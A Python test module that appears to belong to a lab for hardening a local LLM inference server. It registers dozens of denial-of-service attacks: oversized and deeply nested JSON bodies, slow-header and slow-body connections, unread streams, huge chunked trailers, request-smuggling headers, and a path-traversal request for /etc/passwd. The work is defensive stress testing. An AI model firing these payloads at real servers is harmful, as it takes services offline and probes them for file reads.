"""The list of attacks: requests by which one client could harm another, each with a name, a sentence and a coroutine.

An attack has two steps: first its bodies are built, which takes time that is not the server's; then it is fired. It
ends by itself within seconds, and World.tally counts the outcome of each of its requests. `item` is the origin of the
attack: an issue's item, or "own" for one that was not reported.
"""

import asyncio
import json
import random
import socket
from collections import Counter
from collections.abc import Awaitable, Callable, Iterable, Sequence
from contextlib import AsyncExitStack, suppress
from typing import Any, NamedTuple

from lab.attack.raw_http import HOST, Reply, ask, connect, connection, get, hang_up, head, post
from redline import clock
from redline.api.config import Limits

CHAT, COMPLETIONS, TOKENIZE, DETOKENIZE = "/v1/chat/completions", "/v1/completions", "/tokenize", "/detokenize"
MIB = 1 << 20
LIMIT_S = 40.0  # seconds until a request counts as unanswered
LARGE = Limits().body_bytes - 1024  # bytes of padding in a body: just below the limit, so that the parser reads it
IDS = Limits().tokens  # of one request; requests with more are refused before they are parsed

Fire = Callable[[], Awaitable[None]]


class World:
    """The server under attack on 127.0.0.1, and its replies since `tally` was last cleared.

    token: the id of a token with the text " the"; blank: the id of a token that is only whitespace. context: maximum
    tokens of one request. tally: how many requests ended in each way, by `Reply.kind`.
    """

    def __init__(self, port: int, token: int, blank: int, context: int) -> None:
        self.port = port
        self.token = token
        self.blank = blank
        self.context = context
        self.tally: Counter[str] = Counter()

    async def send(self, request: bytes, **how: Any) -> Reply:
        """Sends one request on a connection of its own, and counts its reply. `how`: for `raw_http.ask`."""
        given: dict[str, Any] = {"limit_s": LIMIT_S, **how}
        reply = await ask(self.port, request, **given)
        self.tally[reply.kind] += 1
        return reply

    async def send_parts(self, parts: Sequence[bytes]) -> None:
        """Sends one request in the pieces given by the attack, the second one 0.3 s after the first.

        Counts its status, or "closed" if none arrived within LIMIT_S or the connection broke.
        """
        outcome = "closed"
        with suppress(OSError, TimeoutError):
            async with asyncio.timeout(LIMIT_S), connection(self.port) as (reader, writer):
                for number, part in enumerate(parts):
                    writer.write(part)
                    await writer.drain()
                    if number == 0:
                        await asyncio.sleep(0.3)
                outcome = (await reader.read(12))[9:].decode() or "closed"
        self.tally[outcome] += 1

    async def send_all(self, requests: Iterable[bytes], **how: Any) -> None:
        """Sends all requests at once, and returns when every one has ended. `how`: as in `send`."""
        await asyncio.gather(*(self.send(request, **how) for request in requests))

    async def others_are_served(self, seconds: float) -> None:
        """Requests one token every second, as a new client would, and counts each outcome under "newcomer ..."."""
        end = clock.monotonic() + seconds
        while clock.monotonic() < end:
            reply = await ask(self.port, post(COMPLETIONS, body(prompt="Hello", max_tokens=1)), limit_s=10)
            self.tally[f"newcomer {reply.kind}"] += 1
            await asyncio.sleep(1)


class Attack(NamedTuple):
    """One entry of the list. prepare: builds the bodies, which takes memory and time, and returns a function that sends
    them.
    """

    name: str
    item: str
    what: str
    prepare: Callable[[World], Fire]


ATTACKS: list[Attack] = []


def attack(item: str, what: str) -> Callable[[Callable[[World], Fire]], Callable[[World], Fire]]:
    """Registers the decorated function in ATTACKS under its own name. item: the origin of the attack, or "own"."""

    def note(prepare: Callable[[World], Fire]) -> Callable[[World], Fire]:
        ATTACKS.append(Attack(prepare.__name__, item, what, prepare))
        return prepare

    return note


def body(**fields: Any) -> bytes:
    """The JSON of a request's body, as UTF-8 bytes."""
    return json.dumps(fields).encode()


def user(text: str) -> list[dict[str, str]]:
    """A conversation of one user message."""
    return [{"role": "user", "content": text}]


def at_once(world: World, requests: Sequence[bytes], **how: Any) -> Fire:
    """A function that sends all requests at once, each on a connection of its own. `how`: as in `World.send`."""

    async def fire() -> None:
        await world.send_all(requests, **how)

    return fire


def in_turn(world: World, requests: Sequence[bytes], **how: Any) -> Fire:
    """A function that sends each request after the previous one has ended. `how`: as in `World.send`."""

    async def fire() -> None:
        for request in requests:
            await world.send(request, **how)

    return fire


def nested(depth: int, inner: Any = None) -> Any:
    """`inner` inside `depth` lists of one element each."""
    value = inner
    for _ in range(depth):
        value = [value]
    return value


def tool(parameters: dict[str, Any], description: str = "", name: str = "f") -> dict[str, Any]:
    """A tool in the format of a chat request. parameters: its JSON Schema."""
    return {"type": "function", "function": {"name": name, "description": description, "parameters": parameters}}


# -- Sampling ------------------------------------------------------------------------------------------------------


@attack("A1", "a repetition penalty that overflows, 24 times")
def tiny_penalty(world: World) -> Fire:
    """24 chat requests at once: six with each of four penalties from 1e-300 to 1e-6."""
    asked = {"messages": user("Hello"), "max_tokens": 8}
    values = [1e-40, 1e-300, 1e-38, 1e-6] * 6
    return at_once(world, [post(CHAT, body(**asked, repetition_penalty=value)) for value in values])


@attack("A1", "300 biases of +-100 with every penalty at its bound, n = 8")
def extreme_sampling(world: World) -> Fire:
    """Eight equal completions at once."""
    asked = {
        "prompt": "Hello", "n": 8, "max_tokens": 16, "temperature": 2, "top_p": 1e-9, "min_p": 1, "top_k": 1 << 20,
        "presence_penalty": 2, "frequency_penalty": -2, "repetition_penalty": 10,
        "logit_bias": {str(token): 100 if token % 2 else -100 for token in range(300)},
    }  # fmt: skip
    return at_once(world, [post(COMPLETIONS, body(**asked))] * 8)


# -- Large and deep bodies -----------------------------------------------------------------------------------------


def _arrays(depth: int, description: str) -> dict[str, Any]:
    """The schema of one parameter: `depth` nested arrays around a string.

    Each level has a comment, so the chat template indents each one further.
    """
    schema: dict[str, Any] = {"type": "string", "description": description}
    for _ in range(depth):
        schema = {"type": "array", "items": schema, "description": "d"}
    return {"type": "object", "properties": {"a": schema}}


@attack("A2", "a tool with 60 nested arrays around a description of a million lines, 2 MB")
def nested_tool(world: World) -> Fire:
    """One chat request: the template indents every line of the description 60 times deeper."""
    parameters = _arrays(60, "x\n" * MIB)
    return in_turn(world, [post(CHAT, body(messages=user("Hello"), tools=[tool(parameters)], max_tokens=1))])


@attack("A2", "the same to /tokenize, and with a description of one line")
def nested_tokenize(world: World) -> Fire:
    """Two /tokenize requests in sequence; only 4 KiB of each answer are kept."""
    tools = [tool(_arrays(60, "x\n" * MIB))], [tool(_arrays(60, "the cat " * (MIB // 4)))]
    requests = [post(TOKENIZE, body(messages=user("Hello"), tools=each, return_token_strs=True)) for each in tools]
    return in_turn(world, requests, keep=1 << 12)


@attack("A2", "128 tools whose parameters have 500 properties each")
def wide_tools(world: World) -> Fire:
    """One chat request with 128 tools of 500 properties each, with nine equal choices."""
    schema = {"type": "object", "properties": {f"p{k}": {"type": "string", "enum": ["a"] * 9} for k in range(500)}}
    tools = [tool(schema, "d" * 500, f"f{k}") for k in range(128)]
    return in_turn(world, [post(CHAT, body(messages=user("Hello"), tools=tools, max_tokens=1))])


@attack("A2", "8 MB of reasoning, then 8 MB of a call's arguments, in an assistant's message")
def long_past(world: World) -> Fire:
    """Two chat requests in sequence; the earlier turn is as long as the body limit allows."""
    text = "so " * (LARGE // 3)
    call = {"id": "functions.f:0", "type": "function", "function": {"name": "f", "arguments": text}}
    said = {"role": "assistant", "content": "ok"}
    pasts = [{**said, "reasoning_content": text}, {**said, "tool_calls": [call]}]
    requests = [post(CHAT, body(messages=[*user("a"), past, *user("b")], max_tokens=1)) for past in pasts]
    return in_turn(world, requests)


@attack("A2", "arguments of a call that are JSON nested 5,000 deep, and an object of 30,000 keys")
def odd_arguments(world: World) -> Fire:
    """Four chat requests in sequence: arguments of a past call, as a string and as an object."""

    def past(arguments: Any) -> bytes:
        call = {"id": "functions.f:0", "type": "function", "function": {"name": "f", "arguments": arguments}}
        messages = [*user("a"), {"role": "assistant", "content": "", "tool_calls": [call]}, *user("b")]
        return post(CHAT, body(messages=messages, max_tokens=1))

    wide = {f"key {k}": k for k in range(30_000)}
    return in_turn(world, [past("[" * 5000 + "]" * 5000), past({"a": nested(400)}), past(wide), past(json.dumps(wide))])


@attack("A2", "4,096 messages of one letter, twice at once")
def many_messages(world: World) -> Fire:
    """Two equal chat requests at once, with the maximum number of messages."""
    messages = [{"role": "user" if k % 2 == 0 else "assistant", "content": "a"} for k in range(4096)]
    return at_once(world, [post(CHAT, body(messages=messages, max_tokens=1))] * 2)


@attack("A2", "texts of 1.5 MB of one kind each to /tokenize: letters, spaces, newlines, digits, marks, Han, emoji")
def one_word(world: World) -> Fire:
    """Eleven /tokenize requests in sequence, each of 1.5 MiB without a word boundary."""
    kinds = "a", " ", "\n", "1", "'", "\u0301", "\u4e2d", "\U0001f600", "aB", " \n", "<|im_end|>"
    texts = [kind * (3 * MIB // 2 // len(kind.encode())) for kind in kinds]
    return in_turn(world, [post(TOKENIZE, body(prompt=text, return_token_strs=True)) for text in texts], keep=1 << 12)


@attack("A2", "2 million ids to /detokenize and a whole context of them, four of each at once")
def many_ids(world: World) -> Fire:
    """Eight bodies, the larger ones of 7 MiB with much whitespace; only 4 KiB of each answer are kept."""
    bodies = [b'{"tokens": [' + (b"1," + b" " * 12) * (count - 1) + b"1]}" for count in (IDS, world.context)]
    return at_once(world, [post(DETOKENIZE, one) for one in bodies] * 4, keep=1 << 12)


@attack("A9", "24 bodies of 8 MB at once, whose prompts are too long")
def many_large_bodies(world: World) -> Fire:
    """Equal bodies just below the body limit, together far more than the server's limit for buffered bodies."""
    return at_once(world, [post(COMPLETIONS, body(prompt="a b c " * (LARGE // 6), max_tokens=1))] * 24)


@attack("A9", "24 bodies of 30 MB at once, each far over the limit")
def too_large_bodies(world: World) -> Fire:
    """The only attack with bodies that the server does not read to the end: each is refused by its length."""
    return at_once(world, [post(COMPLETIONS, body(prompt="a b c " * (5 * MIB), max_tokens=1))] * 24)


@attack("A9", "64 prompts of the whole context each in one body, as text")
def many_long_prompts(world: World) -> Fire:
    """One completions request with the maximum number of prompts, each a different text."""
    text = "the cat sat on a mat " * (world.context // 8)
    return in_turn(world, [post(COMPLETIONS, body(prompt=[text + str(k) for k in range(64)], max_tokens=1))])


@attack("own", "2 million ids as one prompt, then 2 million one-letter prompts")
def millions_of_prompts(world: World) -> Fire:
    """Two bodies in sequence: a prompt with the maximum number of ids (4 MiB), and a list of prompts (8 MiB)."""
    ids = b'{"max_tokens": 1, "prompt": [' + b"1," * (IDS - 1) + b"1]}"
    texts = b'{"max_tokens": 1, "prompt": [' + b'"a",' * (LARGE // 4) + b'"a"]}'
    return in_turn(world, [post(COMPLETIONS, ids), post(COMPLETIONS, texts)])


@attack("own", "bodies of 8 MB that are brackets, a number, duplicate keys, unknown fields, escapes, or no UTF-8")
def odd_json(world: World) -> Fire:
    """Twelve completions bodies of up to 8 MiB, in sequence; each is expensive for a careless parser."""
    size = LARGE
    keys = b",".join(b'"%d":0' % k for k in range(size // 12))
    bodies = [
        b"[" * size,
        b'{"messages":' + b"[" * size,
        b'{"max_tokens":' + b"9" * size + b"}",
        b'{"temperature":0.' + b"9" * size + b"}",
        b"{" + keys + b"}",
        b'{"user":{' + keys + b'},"messages":[]}',
        b'{"prompt":"' + b"\\u0061" * (size // 6) + b'"}',
        b'{"prompt":"' + b"\\ud800" * (size // 6) + b'"}',
        b'{"prompt":"' + b"\xff" * size + b'"}',
        b'{"logit_bias":{' + keys + b'},"prompt":"a"}',
        b'{"response_format":' + b"[" * 900 + b"]" * 900 + b',"prompt":"a"}',
        b" " * size,
    ]
    return in_turn(world, [post(COMPLETIONS, odd) for odd in bodies])


@attack("own", "schemas nested 64 deep with every keyword wrong, 128 tools of them")
def wrong_schemas(world: World) -> Fire:
    """21 chat requests in sequence: ten wrong schemas, the same as a property's schema, and `items` with 60 nested
    lists.
    """
    kinds: list[Any] = [None, 7, "string", [], {}, ["string", 7], True, -1e308, "\x00", "<|im_end|>"]
    words = "type", "properties", "items", "enum", "required", "description", "$ref", "anyOf", "default", "additional"
    schemas: list[Any] = [dict.fromkeys(words, kind) for kind in kinds]
    schemas += [{"type": "object", "properties": {"a": schema}} for schema in schemas] + [{"items": nested(60)}]
    requests = [post(CHAT, body(messages=user("a"), tools=[tool(schema)] * 128, max_tokens=1)) for schema in schemas]
    return in_turn(world, requests)


# -- Large answers -------------------------------------------------------------------------------------------------


@attack("A7", "prompt_logprobs of 20 for prompts of 4,000 tokens, 12 at once")
def prompt_logprobs(world: World) -> Fire:
    """Twelve completions at once: large answers for little work. Prompts are cut to fit into the context."""
    size = min(4000, world.context - 2)
    prompts = [[(7 * k + j) % 3000 for j in range(size)] for k in range(12)]
    requests = [post(COMPLETIONS, body(prompt=prompt, max_tokens=1, prompt_logprobs=20)) for prompt in prompts]
    return at_once(world, requests, keep=1 << 12)


@attack("A7", "64 prompts x n = 8 x 20 logprobs, echoed")
def product_of_bounds(world: World) -> Fire:
    """One completions request with options that are allowed singly and have a large product: 512 answers."""
    prompts = [[(11 * k + j) % 3000 for j in range(60)] for k in range(64)]
    asked = {"prompt": prompts, "n": 8, "logprobs": 20, "echo": True, "max_tokens": 4}
    return in_turn(world, [post(COMPLETIONS, body(**asked))], keep=1 << 12)


@attack("A7", "whole answers of 8 x 500 tokens with 20 logprobs each, four at once")
def large_answers(world: World) -> Fire:
    """Four chat requests at once without streaming, so the server holds each complete answer."""
    asked = {"messages": user("Count."), "n": 8, "max_tokens": 500, "ignore_eos": True, "temperature": 0}
    bias = {str(world.token): 100}
    request = post(CHAT, body(**asked, logprobs=True, top_logprobs=20, logit_bias=bias))
    return at_once(world, [request] * 4, keep=1 << 12)


@attack("A7", "a prompt of the whole context with prompt_logprobs, streamed and echoed")
def longest_scored(world: World) -> Fire:
    """One streamed completion with an echoed prompt that fills the context except for one token."""
    prompt = [(13 * j) % 3000 for j in range(world.context - 1)]
    asked = {"prompt": prompt, "max_tokens": 1, "logprobs": 20, "echo": True, "stream": True}
    return in_turn(world, [post(COMPLETIONS, body(**asked))], keep=1 << 12)


# -- Expensive tokens --------------------------------------------------------------------------------------------------


def _at_length(world: World, path: str, token: int, rows: int, tokens: int, **fields: Any) -> Fire:
    """`rows` streams at once, each forced to generate `token` for `tokens` tokens; `fields` are added
    to the request.
    """
    opening = {"messages": user("Go on.")} if path == CHAT else {"prompt": "Go on."}
    forced = {"ignore_eos": True, "temperature": 0, "logit_bias": {str(token): 100}, "stream": True}
    request = post(path, body(**opening, **forced, max_tokens=tokens, **fields))
    return at_once(world, [request] * rows, keep=1 << 12)


@attack("A8", "16 stop strings of 128 letters that nearly match, eight streams of 600 tokens")
def stop_strings(world: World) -> Fire:
    """Every token may be the start of a stop string, and none is ever completed."""
    text = (" the" * 40)[:142]
    stops = [text[k : k + 127] + "#" for k in range(16)]
    return _at_length(world, COMPLETIONS, world.token, 8, 600, stop=stops)


@attack("A8", "answers of nothing but whitespace, eight streams of 1,500 tokens")
def whitespace(world: World) -> Fire:
    """Chat answers that a parser may hold back, since they consist only of whitespace."""
    return _at_length(world, CHAT, world.blank, 8, 1500, chat_template_kwargs={"thinking": False})


@attack("own", "answers that are control tokens of tool calls, eight streams, streamed with logprobs")
def control_tokens(world: World) -> Fire:
    """Looks up the control tokens' ids by /tokenize, then biases each of eight chats towards two of them."""
    specials = [f"<|tool_call{part}|>" for part in ("s_section_begin", "_begin", "_argument_begin", "_end")]
    asked = {"ignore_eos": True, "stream": True, "logprobs": True, "top_logprobs": 20, "max_tokens": 400}

    async def fire() -> None:
        reply = await world.send(post(TOKENIZE, body(prompt="".join(specials))))
        ids = json.loads(reply.body)["tokens"]
        biases = [{str(ids[k % len(ids)]): 100, str(ids[(k + 1) % len(ids)]): 99.9} for k in range(8)]
        requests = [post(CHAT, body(messages=user("Go."), logit_bias=bias, **asked)) for bias in biases]
        await world.send_all(requests, keep=1 << 12)

    return fire


# -- Many requests -------------------------------------------------------------------------------------------------


@attack("A9", "n = 8 of one prompt of 2,000 tokens, eight times")
def many_choices(world: World) -> Fire:
    """64 answers at once for eight prompts that fill many pages. Prompts are cut to fit into the context."""
    prompts = [[(17 * k + j) % 3000 for j in range(min(2000, world.context - 8))] for k in range(8)]
    return at_once(world, [post(COMPLETIONS, body(prompt=prompt, n=8, max_tokens=4)) for prompt in prompts])


@attack("A9", "2,000 requests of one token at once")
def a_crowd(world: World) -> Fire:
    """Completions of one token, 500 at a time."""

    async def fire() -> None:
        requests = [post(COMPLETIONS, body(prompt=f"{k}", max_tokens=1)) for k in range(2000)]
        for start in range(0, len(requests), 500):
            await world.send_all(requests[start : start + 500])

    return fire


@attack("A9", "200 clients that leave as soon as their prompt of 300 kB is sent")
def departing_clients(world: World) -> Fire:
    """Completions, 50 at a time, by clients that disconnect 0.3 s after they began to connect."""
    requests = [post(COMPLETIONS, body(prompt=f"{k} says " + "a b c " * 50_000, max_tokens=64)) for k in range(200)]

    async def fire() -> None:
        for start in range(0, len(requests), 50):
            await world.send_all(requests[start : start + 50], leave_s=0.3)

    return fire


@attack("own", "300 streams that are left after their first token")
def left_streams(world: World) -> Fire:
    """Six times 50 streams of four answers each, by clients that disconnect 0.4 s after they began to connect."""
    asked = {"prompt": "Go on", "max_tokens": 400, "ignore_eos": True, "stream": True, "n": 4}

    async def fire() -> None:
        for _ in range(6):
            await world.send_all([post(COMPLETIONS, body(**asked))] * 50, leave_s=0.4)

    return fire


@attack("own", "500 scrapes of /metrics at once, then 2,000 of /health")
def scrapes(world: World) -> Fire:
    """Only GET requests, 500 at a time, as from a broken monitor."""

    async def fire() -> None:
        await world.send_all([get("/metrics")] * 500)
        for _ in range(4):
            await world.send_all([get("/health")] * 500)

    return fire


@attack("own", "prompts that fill every page, 48 at once, so that jobs are pre-empted")
def full_pages(world: World) -> Fire:
    """48 streams at once, each aborted after 25 s. Prompts are cut to fit into the context."""
    size = min(1500, world.context - 300)
    prompts = [[(19 * k + j) % 3000 for j in range(size)] for k in range(48)]
    asked = {"max_tokens": 100, "ignore_eos": True, "stream": True}
    return at_once(world, [post(COMPLETIONS, body(prompt=prompt, **asked)) for prompt in prompts], limit_s=25)


# -- Connections ---------------------------------------------------------------------------------------------------


async def silent(port: int, count: int, stack: AsyncExitStack, opening: bytes = b"") -> int:
    """Opens connections that send at most `opening`, and returns how many could be opened.

    Each has five seconds to connect; those that cannot connect are left out. `stack` closes the connections.
    """
    opened = 0
    for _ in range(count):
        try:
            async with asyncio.timeout(5):
                _, writer = await connect(port)
        except (OSError, TimeoutError):
            continue
        stack.push_async_callback(hang_up, writer)
        writer.write(opening)
        opened += 1
    return opened


async def unread(port: int, count: int, stack: AsyncExitStack) -> int:
    """Opens streams of two long answers that are never read; returns how many could be opened. `stack` closes them."""
    asked = {"prompt": "Go on", "max_tokens": 2000, "ignore_eos": True, "stream": True, "logprobs": 20, "n": 2}
    request = post(COMPLETIONS, body(**asked))
    opened = 0
    for _ in range(count):
        with suppress(OSError, TimeoutError):
            async with asyncio.timeout(5):
                reader, writer = await connect(port, receive_bytes=1 << 12)
            reader._limit = 1  # type: ignore[attr-defined]  # the transport pauses at twice this
            stack.push_async_callback(hang_up, writer)
            writer.write(request)
            opened += 1
    return opened


@attack("A4", "1,100 sockets that say nothing, for 8 s")
def silent_sockets(world: World) -> Fire:
    """During the attack a new client sends a request every second, which must be served."""

    async def fire() -> None:
        async with AsyncExitStack() as stack:
            world.tally["opened"] += await silent(world.port, 1100, stack)
            await world.others_are_served(8)

    return fire


@attack("A4", "200 streams that nobody reads, for 12 s")
def non_readers(world: World) -> Fire:
    """During the attack a new client sends a request every second, which must be served."""

    async def fire() -> None:
        async with AsyncExitStack() as stack:
            world.tally["opened"] += await unread(world.port, 200, stack)
            await world.others_are_served(12)

    return fire


@attack("A4", "a chunked body of one byte whose trailers are 26 MB")
def trailers(world: World) -> Fire:
    """Three requests in sequence: many trailers of 240 bytes, very many empty ones, and one of 26 MiB."""
    top = head("POST", CHAT, None, [("Transfer-Encoding", "chunked")])
    few = b"".join(b"X-%07d: %s\r\n" % (k, b"t" * 240) for k in range(26 * MIB // 253))
    many = b"".join(b"X-%d: \r\n" % k for k in range(26 * MIB // 11))
    one = b"X-Long: " + b"t" * (26 * MIB) + b"\r\n"

    async def fire() -> None:
        for lines in (few, many, one):
            # The headers are valid, and the app is waiting for the body when the trailers arrive.
            parts = [top, b"1\r\n{\r\n0\r\n", *(lines[at : at + 65536] for at in range(0, len(lines), 65536)), b"\r\n"]
            await world.send_parts(parts)

    return fire


@attack("A4", "300 clients whose headers come a byte a second")
def slow_headers(world: World) -> Fire:
    """Counts connections as "still open" that the server has not closed after eleven seconds."""

    async def fire() -> None:
        async with AsyncExitStack() as stack:
            writers = [(await stack.enter_async_context(connection(world.port)))[1] for _ in range(300)]
            for byte in b"POST / HTTP":
                for writer in writers:
                    writer.write(bytes([byte]))
                await asyncio.sleep(1)
            world.tally["still open"] += sum(not writer.transport.is_closing() for writer in writers)

    return fire


@attack("A4", "200 small bodies in 40 pieces over 8 s, and 16 of 0.8 MB in pieces of 16 bytes")
def slow_bodies(world: World) -> Fire:
    """Small bodies in 40 pieces 0.2 s apart, together with bodies of 0.8 MB in 50,000 pieces without a pause."""
    small = post(CHAT, body(messages=user("Hello"), max_tokens=1))
    large = post(COMPLETIONS, body(prompt="a " * 400_000, max_tokens=1))

    async def fire() -> None:
        await asyncio.gather(
            world.send_all([small] * 200, pieces=40, pause_s=0.2),
            world.send_all([large] * 16, pieces=50_000, pause_s=0),
        )

    return fire


@attack("A4", "a chunked body of 4 million chunks of one byte")
def small_chunks(world: World) -> Fire:
    """One chat request with 4 MiB of spaces that arrive as 24 MiB of chunks."""
    top = head("POST", CHAT, None, [("Transfer-Encoding", "chunked")])
    return in_turn(world, [top + b"1\r\n \r\n" * (4 << 20) + b"0\r\n\r\n"])


@attack("own", "20,000 requests in one write on one connection")
def pipeline(world: World) -> Fire:
    """Health checks that do not wait for their answers; the last one asks the server to close."""
    one = head("GET", "/health", None, [("Connection", "keep-alive")])
    return in_turn(world, [one * 20_000 + get("/health")], keep=1 << 12)


@attack("own", "500 streaming requests in one write on one connection that is not read")
def unread_pipeline(world: World) -> Fire:
    """During the attack a new client sends a request every second, which must be served."""
    content = body(prompt="Go on", max_tokens=50, ignore_eos=True, stream=True)
    one = head("POST", COMPLETIONS, len(content), [("Connection", "keep-alive")]) + content

    async def fire() -> None:
        async with connection(world.port, receive_bytes=1 << 12) as (reader, writer):
            reader._limit = 1  # type: ignore[attr-defined]
            writer.write(one * 500)
            await world.others_are_served(6)

    return fire


@attack("own", "3,000 connections that are reset at once, in the middle of a header or a body")
def resets(world: World) -> Fire:
    """Each connection sends a random part of a chat request, and ends with a TCP reset instead of a close."""
    content = post(CHAT, body(messages=user("Hello"), max_tokens=4))

    async def fire() -> None:
        chance = random.Random(0)
        for _ in range(3000):
            with suppress(OSError):
                _, writer = await connect(world.port)
                link: socket.socket = writer.get_extra_info("socket")
                link.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, b"\x01\x00\x00\x00\x00\x00\x00\x00")
                writer.write(content[: chance.randrange(len(content) + 1)])
                await asyncio.sleep(0)
                await hang_up(writer)
                world.tally["reset"] += 1

    return fire


@attack("own", "requests that no parser should take: smuggling, odd lengths, versions, methods, long lines, upgrades")
def odd_requests(world: World) -> Fire:
    """One request after the other, each aborted after five seconds."""
    hello = body(messages=user("Hello"), max_tokens=1)
    heads = [
        post(CHAT, hello, [("Content-Length", "-1")]),
        post(CHAT, hello, [("Content-Length", "9" * 30)]),
        post(CHAT, hello, [("Content-Length", "+10")]),
        post(CHAT, hello, [("Transfer-Encoding", "chunked")]),
        post(CHAT, b"ffffffffffffffff\r\n", [("Transfer-Encoding", "chunked"), ("Content-Length", "")]),
        head("POST", CHAT, None, [("Transfer-Encoding", "chunked")]) + b"1;" + b"x" * (4 * MIB) + b"\r\n{\r\n0\r\n\r\n",
        head("POST", CHAT, None),
        get("/" + "a" * (2 * MIB)),
        get("/health?" + "a=1&" * MIB),
        get("/health", [(f"X-{k}", "v" * 60) for k in range(900)]),
        get("/health", [("X", "v" * (4 * MIB))]),
        get("/%2e%2e/%2e%2e/etc/passwd"),
        get("//health"),
        get("http://elsewhere/health"),
        head("HEAD", "/health", None),
        head("OPTIONS", "*", None),
        head("TRACE", "/", None),
        head("CONNECT", "elsewhere:443", None),
        head("BREW", "/", None),
        get("/", [("Connection", "Upgrade"), ("Upgrade", "websocket"), ("Sec-WebSocket-Key", "x" * 24)]),
        get("/", [("Connection", "Upgrade, HTTP2-Settings"), ("Upgrade", "h2c"), ("HTTP2-Settings", "AAMAAABk")]),
        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
        b"GET / HTTP/1.0\r\n\r\n",
        b"GET / HTTP/9.9\r\nHost: x\r\nConnection: close\r\n\r\n",
        b"GET /health\r\n\r\n",
        b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(500),
        b"\x00" * MIB,
        b"\r\n" * MIB + get("/health"),
        b"GET / HTTP/1.1\r\nHost: x\r\n folded\r\nConnection: close\r\n\r\n",
        b"GET / HTTP/1.1\nHost: x\nConnection: close\n\n",
        post(CHAT, hello, [("Expect", "100-continue")]),
        post(CHAT, hello, [("Content-Encoding", "gzip")]),
        post(CHAT, hello, [("X-Request-Id", "\x1b[31m" + "r" * 200)]),
        post(CHAT, hello, [("Authorization", "Bearer " + "k" * 60_000)]),
    ]
    return in_turn(world, heads, limit_s=5)


@attack("A5", "another site's Host, Origin and Content-Type")
def foreign_pages(world: World) -> Fire:
    """Requests that a page of another site can make a browser send, in sequence."""
    hello = body(messages=user("Hello"), max_tokens=1)
    fields = [
        ("Host", "attacker.example"),
        ("Host", "127.0.0.1.attacker.example"),
        ("Host", ""),
        ("Origin", "http://attacker.example"),
        ("Origin", "null"),
        ("Content-Type", "text/plain"),
        ("Content-Type", "application/x-www-form-urlencoded"),
    ]
    requests = [post(CHAT, hello, [field]) for field in fields]
    return in_turn(world, [*requests, get("/v1/models", [("Host", f"attacker.example:{world.port}")]), get("/")])


@attack("A4", "bodies of 33 MB by length and by chunks, headers of 1 MB")
def too_large(world: World) -> Fire:
    """Nine requests at once, three of each kind."""
    chunk = b"100000\r\n" + b" " * MIB + b"\r\n"
    chunked = head("POST", CHAT, None, [("Transfer-Encoding", "chunked")])
    lines = b"".join(b"X-%d: y\r\n" % k for k in range(100_000))
    requests = [
        post(CHAT, b" " * (33 * MIB)),
        chunked + chunk * 40 + b"0\r\n\r\n",
        b"GET / HTTP/1.1\r\nHost: " + HOST.encode() + b"\r\n" + lines + b"\r\n",
    ]
    return at_once(world, requests * 3)
